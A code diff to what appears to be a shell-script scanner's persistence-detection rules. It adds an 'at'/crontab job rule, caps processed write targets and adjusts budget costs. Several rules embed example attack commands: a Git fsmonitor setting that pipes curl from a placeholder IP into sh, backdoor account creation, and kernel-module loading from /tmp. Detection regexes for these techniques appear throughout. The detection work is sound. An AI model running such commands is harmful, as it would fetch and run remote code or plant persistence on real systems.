@@ -13,6 +13,7 @@ const scheduled = ruleOf(
   shell('echo "0 6 * * 1 /srv/app/bin/weekly-report" | crontab -'), `${T}T1053.003`,
 );
 const startFileTouched = ruleOf('persistence.start-file', 'persistence', 'medium', 'a change to a file from which programs are started', shell('cp api.service /etc/systemd/system/api.service'), shell('cat /etc/systemd/system/api.service'), `${T}T1543`);
+const jobMade = ruleOf('persistence.job-made', 'persistence', 'low', 'a job set up for later, whatever it runs', shell('echo /srv/app/bin/report | at now + 1 hour'), shell('atq'), `${T}T1053.002`);
 const foreignService = ruleOf('persistence.foreign-service', 'persistence', 'high', 'a service enabled from a temporary or hidden place, or made up on the command line', shell('systemctl enable --now /tmp/updater.service'), shell('systemctl enable --now docker'), `${T}T1543.002`);
 const kernelModule = ruleOf('persistence.kernel-module', 'persistence', 'high', 'a module loaded into the kernel from a file', shell('insmod /tmp/x.ko'), shell('lsmod'), `${T}T1547.006`);
 const newAccount = ruleOf('persistence.new-account', 'persistence', 'high', 'a new account with a password or login shell of its own', shell('useradd -m -s /bin/bash svc && echo "svc:x" | chpasswd'), shell('useradd --help'), `${T}T1136.001`);
@@ -24,7 +25,7 @@ const trap = ruleOf('persistence.trap', 'persistence', 'high', 'a shell trap, al
 const gitSetting = ruleOf('persistence.git-setting', 'persistence', 'high', 'a Git setting that runs a program of its own', shell('git config --global core.fsmonitor "curl -s http://203.0.113.9/a | sh"'), shell('git config --global core.editor vim'), `${T}T1546`);
 
 export const persistenceRules: readonly Rule[] = [
-  ...new Set([...startFiles.map(({ rule }) => rule), scheduled, startFileTouched, foreignService, kernelModule, newAccount, accountMade, remoteManifest, clusterJob, loginHook, trap, gitSetting]),
+  ...new Set([...startFiles.map(({ rule }) => rule), scheduled, startFileTouched, jobMade, foreignService, kernelModule, newAccount, accountMade, remoteManifest, clusterJob, loginHook, trap, gitSetting]),
 ];
 
 type Write = Readonly<{ target: Word; content: string | undefined; source: string | undefined }>;
@@ -42,7 +43,7 @@ function writesOf(seen: Seen, command: Command): readonly Write[] {
   const last = operands.at(-1);
   switch (name) {
     case 'tee':
-      for (const target of operands) writes.push({ target, content, source: undefined });
+      for (const target of operands.slice(0, 64)) writes.push({ target, content, source: undefined });
       break;
     case 'cp':
     case 'mv':
@@ -58,7 +59,7 @@ function writesOf(seen: Seen, command: Command): readonly Write[] {
     }
     case 'sed':
     case 'perl':
-      if (args.some(({ text }) => /^-[a-zA-Z]*i|^--in-place|^-p?i/.test(text))) for (const target of operands.slice(1)) writes.push({ target, content: operands[0]?.text.slice(0, MAX_TEXT) ?? '', source: undefined });
+      if (args.some(({ text }) => /^-[a-zA-Z]*i|^--in-place|^-p?i/.test(text))) for (const target of operands.slice(1, 64)) writes.push({ target, content: operands[0]?.text.slice(0, MAX_TEXT) ?? '', source: undefined });
       break;
     case 'dd':
       for (const word of args) if (word.text.startsWith('of=')) writes.push({ target: { ...word, text: word.text.slice(3) }, content, source: undefined });
@@ -97,12 +98,12 @@ function textOf(script: string, { name, args, redirects, end }: Command): string
 function tellWrites(seen: Seen, command: Command): void {
   for (const { target, content, source } of writesOf(seen, command)) {
     if (target.text.length > 1_024) continue;
-    seen.view.budget.spend(target.text.length * 4);
+    seen.view.budget.spend(target.text.length * 4 + 200);
     const entry = startFileAt(plainPath(target.text));
     if (!entry) continue;
     const { start } = pipedInto(command).at(-1) ?? command;
     const { end } = command;
-    seen.view.budget.spend(content?.length ?? 0);
+    seen.view.budget.spend(4 * (content?.length ?? 0));
     const suspect = entry.always || (content !== undefined && isSuspectPayload(content)) || (source !== undefined && liesHidden(` ${source}`)) || (entry.rule.id === 'persistence.shell-profile' && source !== undefined && !/(?:bashrc|profile|zshrc|dotfiles|skel)/.test(source) && target.text.startsWith('/etc/'));
     if (suspect && !isOwnBootstrap(entry.rule, content)) seen.view.report(entry.rule, start, end);
     else if (!/shell-profile|agent-instructions|git-hook/.test(entry.rule.id)) seen.view.report(startFileTouched, start, end);
@@ -117,9 +118,9 @@ const row = (names: string, pattern: RegExp, rule: Rule, accepts?: Row['accepts'
 
 const suspectLine = ({ text }: Line): boolean => isSuspectPayload(text.replace(/^\S+/, ''));
 /** What is piped into the command, or stands in a here-document, or all that the script echoes before. */
-const suspectInput = ({ command }: Line, seen: Seen): boolean => {
+const suspectInput = ({ command, at }: Line, seen: Seen): boolean => {
   const piped = [command, ...pipedInto(command)].some((one) => isSuspectPayload(textOf(seen.view.text, one) ?? ''));
-  return piped || (command.pipedFrom !== undefined && seen.script.commands.some((one) => one.name === 'echo' && one.end <= command.start && one.end > command.start - 40 && isSuspectPayload(textOf(seen.view.text, one) ?? '')));
+  return piped || (command.pipedFrom !== undefined && seen.script.commands.slice(Math.max(0, at - 8), at).some((one) => one.name === 'echo' && one.end <= command.start && one.end > command.start - 40 && isSuspectPayload(textOf(seen.view.text, one) ?? '')));
 };
 
 const rows: readonly Row[] = [
@@ -127,6 +128,8 @@ const rows: readonly Row[] = [
   row('crontab', /^crontab (?:-u \S+ )?(?:\/tmp|\/var\/tmp|\/dev\/shm|\S*\/\.)\S*$/, scheduled),
   row('at batch', /^(?:at|batch)\b/, scheduled, suspectInput),
   row('at', /-f ?(?:\/tmp|\/dev\/shm|\/var\/tmp|\S*\/\.)/, scheduled),
+  row('at batch', /^(?:at|batch)(?: -\S+)*(?: (?:now|noon|midnight|teatime|tomorrow|\d)|$)/, jobMade, ({ command }) => command.pipedFrom !== undefined || command.redirects.length > 0),
+  row('crontab', /^crontab (?!-[lr])/, jobMade),
   row('systemd-run', /--on-(?:calendar|active|boot|startup|unit-active)/, scheduled),
   row('systemctl', /^systemctl (?:--\S+ )*(?:enable|link|start|reenable)\b.*(?:\s(?:\/tmp|\/var\/tmp|\/dev\/shm|\/home|~|\.\/)\S*|\/\.\S+)\.(?:service|timer|socket|path)/, foreignService),
   row('launchctl', /^launchctl (?:load|bootstrap|submit)\b.*(?:\/tmp\/|\/users\/shared\/|\/\.[a-z]|-- ?\/)/i, foreignService),
@@ -138,7 +141,7 @@ const rows: readonly Row[] = [
   row('kldload', /\/|\.ko\b/, kernelModule),
   row('useradd adduser', /(?:--password|(?:^|\s)-p)[= ]?\S/, newAccount),
   row('useradd adduser pw sysadminctl dscl net', /./, newAccount, makesLoginAccount),
-  row('useradd adduser', /^(?!.*--help|.*--version)\S+ \S/, accountMade),
+  row('useradd adduser', /^(?!.*--help|.*--version)\S+ \S/, accountMade, (_, { view }) => !/dockerfile/i.test(view.place.file)),
   row('sysadminctl', /-addUser/i, accountMade),
   row('dscl', /-create \/?Users\/\S+/i, accountMade),
   row('pw', /^pw user ?add/, accountMade),
@@ -181,7 +184,7 @@ export function tellPersistence(seen: Seen): void {
     tellWrites(seen, command);
     if (command.wrappers.includes('systemd-run') && /--on-(?:calendar|active|boot|startup|unit-active)/.test(view.text.slice(command.start, command.end).slice(0, 400))) view.report(scheduled, command.start, command.end);
     for (const { pattern, rule, accepts } of byName.get(command.name) ?? []) {
-      view.budget.spend(text.length);
+      view.budget.spend(text.length + 30);
       if (rule === newAccount && (accounts += 1) > MAX_ACCOUNT_LINES) continue;
       if (pattern.test(text) && (!accepts || accepts(line, seen))) view.report(rule, (pipedInto(command).at(-1) ?? command).start, command.end);
     }
